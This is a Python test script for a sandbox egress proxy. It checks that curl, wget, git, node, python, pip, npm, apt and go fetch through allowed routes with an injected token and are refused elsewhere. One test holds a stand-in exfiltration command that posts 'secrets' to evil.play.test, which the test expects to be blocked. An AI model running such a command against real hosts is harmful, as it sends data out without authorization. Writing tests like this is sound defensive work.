#!/usr/bin/env python3
"""Real clients in the real bottle, with their own defaults: what the origin got, and what the access log says."""
import base64, gzip, hashlib, http.server, io, json, os, pathlib, shutil, subprocess, tarfile, zipfile
from lab import Echo, Lab, Skip, can_bind, check, main, wait_for
from people import TOKEN, everybody, people

IP = "127.78.1.1"
NAMES = tuple(f"{name}.play.test" for name in ("api", "git", "read", "pip", "npm", "apt", "go"))
TLS_PORT, PLAIN_PORT = (443, 80) if can_bind(443, IP) else (8443, 8080)
SUFFIX = "" if TLS_PORT == 443 else f":{TLS_PORT}"
API, GIT, READ, PIP, NPM, APT, GO = (f"https://{name}{SUFFIX}" for name in NAMES)
PLAIN = "http://plain.play.test" + ("" if PLAIN_PORT == 80 else f":{PLAIN_PORT}")

ROUTE = "port: %d, ca: CA, allow_private: [127.0.0.0/8]" % TLS_PORT
ROUTES = "\n".join(f"  - {{host: {route}}}" for route in (
    f"api.play.test, {ROUTE}, auth: {{scheme: bearer, token_ref: env:PLAY_TOKEN}}",
    f"git.play.test, {ROUTE}, methods: [GET, HEAD]",
    f"git.play.test, {ROUTE}, methods: [POST], path: /smart/*/git-upload-pack",
    f"read.play.test, {ROUTE}, methods: [GET, HEAD]",
    *(f"{name}.play.test, {ROUTE}, methods: [GET, HEAD]" for name in ("pip", "npm", "apt", "go")),
    f"plain.play.test, port: {PLAIN_PORT}, allow_private: [127.0.0.0/8]"))


# --- what the origin serves -----------------------------------------------------------------------------------

def write(path, data):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode())


def make_repositories(www):
    git = ["git", "-c", "user.name=play", "-c", "user.email=play@play.test", "-c", "init.defaultBranch=main"]
    work = www / "work"
    subprocess.run([*git, "init", "-q", work], check=True)
    write(work / "README", "it came through the proxy\n")
    write(work / "noise", os.urandom(300_000))
    subprocess.run([*git, "-C", work, "add", "."], check=True)
    subprocess.run([*git, "-C", work, "commit", "-qm", "first"], check=True)
    branches = "".join(f"commit refs/heads/b{i}\ncommitter play <play@play.test> {i} +0000\ndata 1\nxfrom refs/heads/main^0\n\n"
                       for i in range(40))  # to ask for them takes a request of more than 1 KiB, which git codes
    subprocess.run([*git, "-C", work, "fast-import", "--quiet"], input=branches.encode(), check=True)
    for host in ("git.play.test", "read.play.test"):
        for kind in ("dumb", "smart"):
            bare = www / host / kind / "tiny.git"
            subprocess.run([*git, "clone", "-q", "--bare", work, bare], check=True)
            subprocess.run([*git, "-C", bare, "config", "http.receivepack", "true"], check=True)
            subprocess.run([*git, "-C", bare, "update-server-info"], check=True)


def make_wheel(www):
    name, out = "tiny-1.0-py3-none-any.whl", io.BytesIO()
    files = {"tiny.py": "said = 'a wheel'\n", "tiny-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n",
             "tiny-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: play\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    files["tiny-1.0.dist-info/RECORD"] = "".join(f"{path},,\n" for path in (*files, "tiny-1.0.dist-info/RECORD"))
    with zipfile.ZipFile(out, "w") as z:
        for path, text in files.items():
            z.writestr(path, text)
    digest = hashlib.sha256(out.getvalue()).hexdigest()
    write(www / "pip.play.test" / "files" / name, out.getvalue())
    write(www / "pip.play.test" / "simple" / "tiny" / "index.html", f'<a href="../../files/{name}#sha256={digest}">{name}</a>')


def make_package(www):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for path, text in {"package.json": '{"name": "tiny", "version": "1.0.0"}', "index.js": "module.exports = 'a package'\n"}.items():
            info = tarfile.TarInfo(f"package/{path}")
            info.size = len(text)
            tar.addfile(info, io.BytesIO(text.encode()))
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(out.getvalue()).digest()).decode()
    version = {"name": "tiny", "version": "1.0.0", "dist": {"tarball": f"{NPM}/tiny/-/tiny-1.0.0.tgz", "integrity": integrity}}
    write(www / "npm.play.test" / "tiny" / "-" / "tiny-1.0.0.tgz", out.getvalue())
    write(www / "npm.play.test" / "tiny" / "index.html",
          json.dumps({"name": "tiny", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}))


def make_archive(www):
    tree, folder = www / "deb", www / "apt.play.test"
    write(tree / "DEBIAN" / "control", "Package: tiny\nVersion: 1.0\nArchitecture: all\nMaintainer: play\nDescription: a play's\n")
    tree.joinpath("DEBIAN").chmod(0o755)
    folder.mkdir()
    subprocess.run(["dpkg-deb", "--build", tree, folder / "tiny.deb"], check=True, capture_output=True)
    deb = (folder / "tiny.deb").read_bytes()
    packages = (tree / "DEBIAN" / "control").read_text() + \
        f"Filename: ./tiny.deb\nSize: {len(deb)}\nSHA256: {hashlib.sha256(deb).hexdigest()}\n"
    write(folder / "Packages", packages)
    write(folder / "Packages.gz", gzip.compress(packages.encode()))


def make_module(www):
    folder, out = www / "go.play.test" / "play.test" / "tiny" / "@v", io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("play.test/tiny@v1.0.0/go.mod", "module play.test/tiny\n")
        z.writestr("play.test/tiny@v1.0.0/tiny.go", "package tiny\n")
    write(folder / "v1.0.0.info", '{"Version": "v1.0.0"}')
    write(folder / "v1.0.0.mod", "module play.test/tiny\n")
    write(folder / "v1.0.0.zip", out.getvalue())


class Origin(http.server.SimpleHTTPRequestHandler, Echo):
    """api and plain: an echo; git: `git http-backend` below /smart/; everything else, and that too: files."""
    got = []

    def host(self):
        return self.headers.get("Host", "").split(":")[0]

    def note(self):
        Origin.got.append((self.host(), self.command, self.path, self.headers))

    def do_GET(self):
        self.note()
        if self.host() in ("api.play.test", "plain.play.test"):
            self.answer()
        elif self.path.startswith("/smart/"):
            self.backend()
        else:
            super().do_GET()

    def do_POST(self):
        self.note()
        self.backend() if self.path.startswith("/smart/") else self.answer()

    def backend(self):
        path, _, query = self.path.partition("?")
        env = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": f"{self.directory}/{self.host()}", "GIT_HTTP_EXPORT_ALL": "1",
               "PATH_INFO": path, "QUERY_STRING": query, "REQUEST_METHOD": self.command, "REMOTE_ADDR": "127.0.0.1",
               "REMOTE_USER": "play", "CONTENT_TYPE": self.headers.get("Content-Type", ""),
               "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
               "GIT_PROTOCOL": self.headers.get("Git-Protocol", "")}
        got = subprocess.run(["git", "http-backend"], input=self.body(), env=env, stdout=subprocess.PIPE).stdout
        head, _, body = got.partition(b"\r\n\r\n")
        fields = dict(line.split(": ", 1) for line in head.decode().split("\r\n"))
        self.send_response(int(fields.pop("Status", "200").split()[0]))
        for name, value in {**fields, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def translate_path(self, path):
        return super().translate_path(f"/{self.host()}{path}")


def setting():
    lab = Lab()
    lab.__enter__()
    www = lab.dir / "www"
    for make in (make_repositories, make_wheel, make_package, make_archive, make_module):
        make(www)
    handler = lambda *args: Origin(*args, directory=str(www))
    lab.origin(handler, *NAMES, port=TLS_PORT, ip=IP)
    lab.origin(handler, port=PLAIN_PORT, ip=IP)
    return lab, people(lab, lambda root: lab.bottle("play", ROUTES, root=root), (*NAMES, "plain.play.test"), IP)


lab, everyone = setting()


# --- what is asked of a run -----------------------------------------------------------------------------------

def needs(*programs):
    for program in programs:
        if not shutil.which(program, path="/usr/local/go/bin:/usr/local/bin:/usr/bin:/bin"):
            raise Skip(f"there is no {program} in /usr here")


def origin_got(host, path, method="GET"):
    """The fields of the newest such request."""
    found = [h for name, m, p, h in Origin.got if (name, m, p) == (f"{host}.play.test", method, path)]
    check(found, f"the origin of {host} got no {method} {path}: {Origin.got[-5:]}")
    return found[-1]


def credential_came(path, method="GET"):
    check(origin_got("api", path, method)["Authorization"] == f"Bearer {TOKEN}", f"{path} came without the credential")


def seen(run, host, path, verdict="allowed", status=200, method="GET"):
    """There is such an access line."""
    lines = run.access()
    check(any((l["host"], l["path"], l["verdict"], l["status"], l["method"]) ==
              (f"{host}.play.test", path, verdict, status, method) for l in lines), f"no {verdict} {method} {path}: {lines}")


def fetched(run, host, path, text=""):
    """A run whose one request was allowed, and whose output has text."""
    run.good()
    check(text in run.out, f"{run.command}: {run.out}{run.err}")
    seen(run, host, path)
    return run


def fetched_api(person, path, *command):
    run = fetched(person.run(*command), "api", path, f'"path": "{path}"')
    check(TOKEN in run.out, run.out)  # the echo tells what it got; a real API does not
    credential_came(path)


# --- the stories ----------------------------------------------------------------------------------------------

@everybody
def story_curl_with_and_without_the_proxy(person):
    fetched_api(person, "/curl", "curl", "-sS", "-H", "Authorization: Bearer made-up", f"{API}/curl")
    fetched_api(person, "/curl-direct", "curl", "-sS", "--noproxy", "*", f"{API}/curl-direct")
    run = person.run("curl", "-sS", "-d", "x=1", f"{API}/post").good()
    credential_came("/post", "POST")
    check('"body_bytes": 3' in run.out, run.out)


@everybody
def story_curl_is_refused_what_no_route_allows(person):
    run = person.run("sh", "-c", f"curl -sS -X DELETE {READ}/x; curl -sS --noproxy '*' https://evil.play.test/ -d secrets")
    check(run.good().out.count('"title":"method-not-allowed"') == 1 and run.out.count('"title":"no-route"') == 1, run.out)
    seen(run, "read", "/x", "refused", 403, "DELETE")
    seen(run, "evil", "/", "refused", 403, "POST")
    check(not any(host == "evil.play.test" or method == "DELETE" for host, method, *_ in Origin.got), "it reached the origin")


@everybody
def story_wget(person):
    fetched_api(person, "/wget", "wget", "-q", "-O", "-", f"{API}/wget")
    fetched_api(person, "/wget-direct", "wget", "-q", "--no-proxy", "-O", "-", f"{API}/wget-direct")


@everybody
def story_plain_http_with_and_without_the_proxy(person):
    fetched(person.run("curl", "-sS", f"{PLAIN}/a"), "plain", "/a", '"path": "/a"')
    fetched(person.run("wget", "-q", "--no-proxy", "-O", "-", f"{PLAIN}/b"), "plain", "/b", '"path": "/b"')


@everybody
def story_git_clone_dumb_and_smart(person):
    clone = lambda kind, where: f"git clone -q {GIT}/{kind}/tiny.git {where} && cat {where}/README && git -C {where} fsck"
    run = person.run("sh", "-c", clone("dumb", "a") + " && " + clone("smart", "b")).good()
    check(run.out.count("it came through the proxy") == 2, run.out)
    seen(run, "git", "/dumb/tiny.git/HEAD")
    seen(run, "git", "/smart/tiny.git/git-upload-pack", method="POST")
    asked = [h for _, m, p, h in Origin.got if (m, p) == ("POST", "/smart/tiny.git/git-upload-pack")]
    check(any(h["Content-Encoding"] == "gzip" for h in asked), f"no request of git's was coded: {[h.items() for h in asked]}")


@everybody
def story_git_push_is_refused_where_the_route_is_for_reading(person):
    script = f"""git clone -q {READ}/dumb/tiny.git a && cd a && git config user.name x && git config user.email x@y &&
                 echo new >new && git add new && git commit -qm new && git push {READ}/smart/tiny.git HEAD:main"""
    run = person.run("sh", "-c", script)
    check(run.code != 0 and "403" in run.err, f"{run.code} {run.out} {run.err}")
    seen(run, "read", "/smart/tiny.git/git-receive-pack", "refused", 403, "POST")
    check(not any(p.endswith("/git-receive-pack") for _, _, p, _ in Origin.got), "the push reached the origin")


@everybody
def story_node_fetch_that_knows_no_proxy_and_node_https(person):
    needs("node")
    fetch = "fetch(process.argv[1]).then(r => r.text()).then(console.log)"
    fetched_api(person, "/fetch", "env", "-u", "NODE_USE_ENV_PROXY", "node", "-e", fetch, f"{API}/fetch")
    https = "require('https').get(process.argv[1], r => r.pipe(process.stdout))"
    fetched_api(person, "/https", "node", "-e", https, f"{API}/https")


@everybody
def story_python_urllib_and_requests(person):
    fetched_api(person, "/urllib", "python3", "-c",
                f"import urllib.request; print(urllib.request.urlopen('{API}/urllib').read().decode())")
    fetched_api(person, "/requests", "python3", "-c", f"import requests; print(requests.get('{API}/requests').text)")


@everybody
def story_pip_install_from_an_index(person):
    run = person.run("sh", "-c", f"python3 -m pip install -q --target here --index-url {PIP}/simple tiny && "
                     "PYTHONPATH=here python3 -c 'import tiny; print(tiny.said)'").good()
    check("a wheel" in run.out, run.out + run.err)
    seen(run, "pip", "/simple/tiny/")
    seen(run, "pip", "/files/tiny-1.0-py3-none-any.whl")
    check("pip/" in origin_got("pip", "/simple/tiny/")["User-Agent"], "pip asked")


@everybody
def story_npm_install_from_a_registry(person):
    needs("npm")
    run = person.run("sh", "-c", f"npm install --silent --no-audit --no-fund --registry {NPM} tiny && node -p 'require(\"tiny\")'")
    check("a package" in run.good().out, run.out + run.err)
    seen(run, "npm", "/tiny/-/tiny-1.0.0.tgz")
    check("npm/" in origin_got("npm", "/tiny/-/tiny-1.0.0.tgz")["User-Agent"], "npm asked")


@everybody
def story_apt_update_and_download(person):
    script = f"""mkdir -p lists/partial cache/archives/partial && touch status && echo 'deb [trusted=yes] {APT} ./' >sources &&
                 o="-o Dir::Etc::sourcelist=$PWD/sources -o Dir::State::lists=$PWD/lists -o Dir::State::status=$PWD/status
                    -o Dir::Cache=$PWD/cache -o APT::Architecture=amd64" &&
                 apt-get -q $o update && apt-get -q $o download tiny && dpkg-deb -f tiny_1.0_all.deb Version"""
    run = person.run("sh", "-c", script).good()
    check(run.out.endswith("\n1.0\n"), run.out + run.err)
    seen(run, "apt", "/tiny.deb")


def story_go_get_from_a_module_proxy():
    needs("go")
    run = everyone[0].run("sh", "-c", f"PATH=$PATH:/usr/local/go/bin; printf 'module x\\n' >go.mod && GOFLAGS=-mod=mod GOPROXY={GO} "
                          "GOSUMDB=off GOTOOLCHAIN=local go get play.test/tiny@v1.0.0 && grep tiny go.mod").good()
    check("play.test/tiny v1.0.0" in run.out, run.out)
    seen(run, "go", "/play.test/tiny/@v/v1.0.0.zip")


try:
    main("client")
finally:
    lab.__exit__(None)
